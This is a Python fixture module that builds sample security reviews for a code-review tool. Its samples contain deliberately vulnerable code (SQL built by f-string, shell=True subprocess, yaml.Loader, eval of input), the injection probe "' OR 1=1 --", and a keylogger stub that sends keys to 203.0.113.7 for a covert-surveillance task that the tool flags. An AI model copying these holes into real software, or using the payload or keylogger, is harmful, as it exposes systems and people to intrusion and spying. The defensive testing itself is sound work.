"""Reviews to show: one of each kind that formats have to tell apart."""

from dataclasses import replace
from difflib import unified_diff
from hashlib import sha256

from indict_review.change import Change, Coverage, File, FileChange, Status, Tree
from indict_review.critique import Claim, ClaimStatus, Phase, Turn
from indict_review.decision import DecidedIn, Decision, Dismissed
from indict_review.evidence import (
    Background,
    Concern,
    Confidence,
    Location,
    Observed,
    Severity,
    Skipped,
    Weakness,
)
from indict_review.finding import Dispute, Finding, Suggestion
from indict_review.review import Accounts, Review, TaskAssessment, Usage
from indict_review.revision import (
    Check,
    CheckStatus,
    Edit,
    EditGroup,
    Receipt,
    Revision,
    Verification,
    VerificationStatus,
)

TOOLS = ("semgrep 1.182.0", "tree-sitter 0.25.1")

USERS_BEFORE = """\
import sqlite3


def connect(path):
    return sqlite3.connect(path)
"""

USERS_AFTER = '''\
import sqlite3
import subprocess


def connect(path):
    return sqlite3.connect(path)


def find_user(db, name):
    """The row of one user, or None."""
    query = f"SELECT id, name, email FROM users WHERE name = '{name}'"
    return db.execute(query).fetchone()


def export(db_path, target):
    """Dump the database into a file."""
    subprocess.run(f"sqlite3 {db_path} .dump > {target}", shell=True, check=True)
    return target
'''

QUERY = """    query = "SELECT id, name, email FROM users WHERE name = ?"
    return db.execute(query, (name,)).fetchone()"""

EXPORT = """    with open(target, "wb") as out:
        subprocess.run(["sqlite3", db_path, ".dump"], stdout=out, check=True)"""

SQL, SHELL, YAML = "3f1c0a92e7d45b68", "b82e6d10f3a94c57", "91d7c04be62a8f35"


def diff(path: str, before: str, after: str) -> str:
    lines = unified_diff(before.splitlines(True), after.splitlines(True), f"a/{path}", f"b/{path}")
    return f"diff --git a/{path} b/{path}\n" + "".join(lines)


def location(text: str, path: str, start: int, end: int) -> Location:
    return Location(path, start, end, "\n".join(text.splitlines()[start - 1 : end]))


def checks(**counts: tuple[int, int]) -> tuple[Check, ...]:
    said = {
        "applies": "git apply takes it",
        "parses": "python",
        "finding-gone": "no longer seen",
        "nothing-new": "no analyzer says more",
        "function-kept": "all functions stay",
    }
    passed = tuple(
        Check(name, CheckStatus.PASSED, detail, *counts.get(name.replace("-", "_"), ()))
        for name, detail in said.items()
    )
    return (*passed, Check("tests", CheckStatus.SKIPPED, "no tests to run"))


def receipt(patch: str) -> Receipt:
    return Receipt(
        sha256(patch.encode()).hexdigest(), TOOLS, checks(finding_gone=(1, 0), function_kept=(3, 3))
    )


def sql_injection(suggestion: bool = True) -> Finding:
    where = location(USERS_AFTER, "app/users.py", 11, 12)
    weakness = Weakness(
        "python.sql.built-from-input",
        Concern.SAFETY,
        Severity.HIGH,
        "SQL injection",
        "The query is put together from input, so whoever chooses `name` chooses the query.",
        "CWE-89",
        "Pass values as parameters: `execute(query, (value,))`.",
        Confidence.HIGH,
    )
    fix = Suggestion(11, 12, QUERY, receipt(QUERY)) if suggestion else None
    return Finding(
        SQL,
        weakness.ident,
        weakness.concern,
        weakness.severity,
        where,
        weakness.title,
        weakness.message,
        weakness.cwe,
        weakness.remedy,
        (
            Observed("semgrep", "an f-string with SQL reaches execute()", where, weakness),
            Observed("insecure-code-detector", "SQL built by formatting", where, weakness),
        ),
        suggestion=fix,
    )


def shell_injection() -> Finding:
    where = location(USERS_AFTER, "app/users.py", 17, 17)
    weakness = Weakness(
        "python.subprocess.shell-true",
        Concern.SAFETY,
        Severity.CRITICAL,
        "Command injection",
        "A shell reads the whole string: a path with `;` in it runs as a command.",
        "CWE-78",
        "Pass a list of arguments, without a shell.",
    )
    return Finding(
        SHELL,
        weakness.ident,
        weakness.concern,
        weakness.severity,
        where,
        weakness.title,
        weakness.message,
        weakness.cwe,
        weakness.remedy,
        (
            Observed(
                "semgrep", "subprocess.run with shell=True and a built string", where, weakness
            ),
        ),
        (Dispute("helpfulness", "`target` comes from the command line of an administrator."),),
        Suggestion(17, 17, EXPORT, receipt(EXPORT)),
    )


def users_change(task: str | None = "Look a user up by name, and export the database.") -> Change:
    before = {"app/users.py": File(USERS_BEFORE.encode())}
    after = {
        "app/users.py": File(USERS_AFTER.encode()),
        "app/logo.png": File(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"),
    }
    return Change(
        source="patch",
        before=Tree(before),
        after=Tree(after),
        files=(
            FileChange("app/users.py", None, Status.MODIFIED, "python", 13, 0),
            FileChange("app/logo.png", None, Status.ADDED, None, 0, 0, binary=True),
        ),
        patch=diff("app/users.py", USERS_BEFORE, USERS_AFTER),
        task=task,
        notes=("the hunk of app/users.py said 12 lines and has 18: repaired",),
    )


def revised_tree(change: Change, text: str) -> Tree:
    return change.after.with_text("app/users.py", text)


def fixed_users() -> str:
    lines = USERS_AFTER.split("\n")
    return "\n".join([*lines[:10], QUERY, *lines[12:16], EXPORT, *lines[17:]])


def revision(change: Change, text: str, status: VerificationStatus, **kwargs) -> Revision:
    patch = diff("app/users.py", USERS_AFTER, text)
    proof = receipt(patch) if status is VerificationStatus.PASSED else None
    edit = Edit("app/users.py", USERS_AFTER.splitlines()[10], QUERY)
    return Revision(
        (EditGroup((edit,), (SQL,)),),
        revised_tree(change, text),
        patch,
        Verification(status, kwargs.get("checks", checks()), proof, kwargs.get("reason", "")),
    )


ACCOUNTS = Accounts(
    {"safety": "local", "helpfulness": "local", "actor": "local"},
    Usage(9, 21840, 17310, 1502, 0.0, 231.0),
    236.4,
    {"static": 0.6, "preemptive": 98.2, "draft": 41.0, "post_hoc": 61.5, "revision": 34.1},
)

COVERAGE = {"app/users.py": Coverage.REVIEWED, "app/logo.png": Coverage.NOT_APPLICABLE}

TURNS = (
    Turn(
        Phase.PREEMPTIVE,
        1,
        "safety",
        "`name` is put into the query as text, and both paths go through a shell.",
    ),
    Turn(
        Phase.PREEMPTIVE,
        1,
        "helpfulness",
        "Both functions do what was asked. A missing user gives None, as the docstring says.",
    ),
    Turn(Phase.PREEMPTIVE, 1, "tool", "knowledge: CWE-89, parameters instead of formatting"),
    Turn(Phase.PREEMPTIVE, 1, "summary", "Fix the query and the shell; keep both signatures."),
    Turn(Phase.POST_HOC, 1, "safety", "Nothing is left of either weakness."),
    Turn(Phase.POST_HOC, 1, "helpfulness", "The export still writes the same bytes."),
)


def clean() -> Review:
    change = users_change()
    after = USERS_BEFORE.replace("(path):\n", "(path: str) -> sqlite3.Connection:\n")
    return Review(
        Change(
            source="patch",
            before=change.before,
            after=change.before.with_text("app/users.py", after),
            files=(FileChange("app/users.py", None, Status.MODIFIED, "python", 1, 1),),
            patch=diff("app/users.py", USERS_BEFORE, after),
        ),
        "indict",
        coverage={"app/users.py": Coverage.REVIEWED},
        accounts=Accounts({}, Usage(), 0.6, {"static": 0.5}),
    )


def blocking() -> Review:
    change = users_change()
    where = location(USERS_AFTER, "app/users.py", 17, 17)
    claims = (
        Claim(
            "safety",
            Concern.SAFETY,
            location(USERS_AFTER, "app/users.py", 11, 11),
            USERS_AFTER.splitlines()[10],
            "`name` can close the quote and add its own condition.",
            'Call find_user(db, "\' OR 1=1 --") and see whether a row comes back.',
            "CWE-89",
            ClaimStatus.PROVEN,
            SQL,
        ),
        Claim(
            "safety",
            Concern.SAFETY,
            where,
            where.quote,
            "`target` is opened wherever it points: a caller can overwrite any file.",
            "Call export() with a target outside the data folder.",
            "CWE-22",
        ),
        Claim(
            "helpfulness",
            Concern.HELPFULNESS,
            location(USERS_AFTER, "app/users.py", 18, 18),
            "    return target",
            "Nobody uses what export() returns.",
            "Search for callers.",
            status=ClaimStatus.DISPUTED,
            reason="the task does not say that nobody will",
        ),
        Claim(
            "helpfulness",
            Concern.HELPFULNESS,
            None,
            "db.commit()",
            "The transaction stays open.",
            "Read the function.",
            status=ClaimStatus.DROPPED,
            reason="its quote is not in the change",
        ),
    )
    return Review(
        change,
        "indict",
        (sql_injection(), shell_injection()),
        claims,
        (Background("knowledge", "CWE-89: pass values as parameters", "An entry of ours."),),
        revision(change, fixed_users(), VerificationStatus.PASSED),
        TURNS,
        TaskAssessment(False, "", ("safety: an ordinary task", "helpfulness: an ordinary task")),
        coverage=COVERAGE,
        accounts=ACCOUNTS,
    )


def revised() -> Review:
    """The revision needs more than its one suggestion: a limit beside the query."""
    change = users_change()
    text = fixed_users().replace("import sqlite3\n", "import sqlite3\nfrom pathlib import Path\n")
    text = text.replace("return target", "return Path(target)")
    return Review(
        change,
        "indict",
        (sql_injection(),),
        revision=revision(change, text, VerificationStatus.PASSED),
        dialogue=TURNS[:2],
        coverage=COVERAGE,
        accounts=ACCOUNTS,
    )


SETTINGS_BEFORE = "import yaml\n"
SETTINGS_AFTER = (
    SETTINGS_BEFORE + "\n\ndef settings(text):\n    return yaml.load(text, Loader=yaml.Loader)\n"
)


def settings_change(path: str, source: str = "patch") -> Change:
    return Change(
        source=source,
        before=Tree({path: File(SETTINGS_BEFORE.encode())}),
        after=Tree({path: File(SETTINGS_AFTER.encode())}),
        files=(FileChange(path, None, Status.MODIFIED, "python", 4, 0),),
        patch=diff(path, SETTINGS_BEFORE, SETTINGS_AFTER),
    )


def unsafe_yaml(path: str) -> Finding:
    where = location(SETTINGS_AFTER, path, 5, 5)
    weakness = Weakness(
        "yaml-load",
        Concern.SAFETY,
        Severity.MEDIUM,
        "Unsafe deserialisation",
        "yaml.Loader builds any object that the text names.",
        "CWE-502",
        "Use yaml.safe_load.",
        Confidence.HIGH,
    )
    return Finding(
        YAML,
        weakness.ident,
        weakness.concern,
        weakness.severity,
        where,
        weakness.title,
        weakness.message,
        weakness.cwe,
        weakness.remedy,
        (Observed("insecure-code-detector", "yaml.load with a full loader", where, weakness),),
    )


def incomplete() -> Review:
    change = settings_change("app/settings.py")
    worse = SETTINGS_AFTER.replace("yaml.load(text, Loader=yaml.Loader)", "eval(text)")
    failed = (
        Check("applies", CheckStatus.PASSED, "git apply takes it"),
        Check("nothing-new", CheckStatus.FAILED, "semgrep sees eval-of-input in line 5", 0, 1),
    )
    return Review(
        change,
        "indict",
        (unsafe_yaml("app/settings.py"),),
        revision=Revision(
            (),
            change.after.with_text("app/settings.py", worse),
            diff("app/settings.py", SETTINGS_AFTER, worse),
            Verification(VerificationStatus.FAILED, failed, None, "tried twice"),
        ),
        dialogue=(
            Turn(Phase.PREEMPTIVE, 1, "safety", "The loader builds objects that the text names."),
        ),
        skipped=(
            Skipped("semgrep", "it read 0 of the 1 file it was asked to read"),
            Skipped("helpfulness critic, round 1", "its reply broke the schema twice"),
        ),
        coverage={"app/settings.py": Coverage.SKIPPED},
        accounts=Accounts({"safety": "local"}, Usage(3, 4100, 1900, 260, None, 44.0), 47.9),
    )


def harmful() -> Review:
    """The code is a stub: what counts is what was asked for."""
    after = 'def on_key(key):\n    remember(key)\n    send("203.0.113.7", key)\n'
    tree = Tree({"watch.py": File(after.encode())})
    change = Change(
        source="patch",
        before=Tree(),
        after=tree,
        files=(FileChange("watch.py", None, Status.ADDED, "python", 3, 0),),
        patch=diff("watch.py", "", after),
        task="Record every key my flatmate types, unseen, and send it to my server.",
    )
    return Review(
        change,
        "indict",
        task_assessment=TaskAssessment(
            True,
            "covert surveillance",
            (
                "safety: it records a person without their knowledge (unseen, and send it)",
                'helpfulness: doing it well is the harm (send("203.0.113.7", key))',
            ),
        ),
        revision=Revision((), tree, "", Verification(VerificationStatus.WITHHELD)),
        dialogue=(
            Turn(Phase.PREEMPTIVE, 1, "safety", "The task asks for a keylogger."),
            Turn(Phase.PREEMPTIVE, 1, "helpfulness", "The code serves the task, which is harm."),
        ),
        coverage={"watch.py": Coverage.REVIEWED},
        accounts=Accounts({"safety": "local"}, Usage(2, 1800, 700, 90, 0.0, 15.0), 16.2),
    )


def dismissed() -> Review:
    """Nothing is left standing: one finding is in the ledger, one is marked in the code."""
    known = Decision(
        DecidedIn.LEDGER, "only the nightly job calls it", "ada", "2026-11-02", "2027-01-31"
    )
    marked = Decision(DecidedIn.INLINE, "the path comes from our own settings", "nosec B602")
    return Review(
        replace(users_change(), source="commits", notes=()),
        "tools",
        dismissed=(
            Dismissed(sql_injection(suggestion=False), known),
            Dismissed(replace(shell_injection(), suggestion=None, disputes=()), marked),
        ),
        coverage=COVERAGE,
        accounts=Accounts({}, Usage(), 0.6, {"static": 0.5}),
    )


def stricter() -> Review:
    """Staged; a medium finding blocks, since its folder says so. Its fix can be had."""
    path = "payments/settings.py"
    change = settings_change(path, "staged")
    line = "    return yaml.safe_load(text)"
    text = SETTINGS_AFTER.replace(SETTINGS_AFTER.splitlines()[4], line)
    patch = diff(path, SETTINGS_AFTER, text)
    edit = Edit(path, SETTINGS_AFTER.splitlines()[4], line)
    return Review(
        change,
        "tools",
        (replace(unsafe_yaml(path), suggestion=Suggestion(5, 5, line, receipt(line))),),
        revision=Revision(
            (EditGroup((edit,), (YAML,)),),
            change.after.with_text(path, text),
            patch,
            Verification(VerificationStatus.PASSED, checks(), receipt(patch)),
        ),
        coverage={path: Coverage.REVIEWED},
        stricter=(("payments/", Severity.LOW),),
        accounts=Accounts({}, Usage(), 0.6, {"static": 0.5}),
    )


SAMPLES = {
    "clean": clean,
    "blocking": blocking,
    "revised": revised,
    "incomplete": incomplete,
    "harmful": harmful,
    "dismissed": dismissed,
    "stricter": stricter,
}
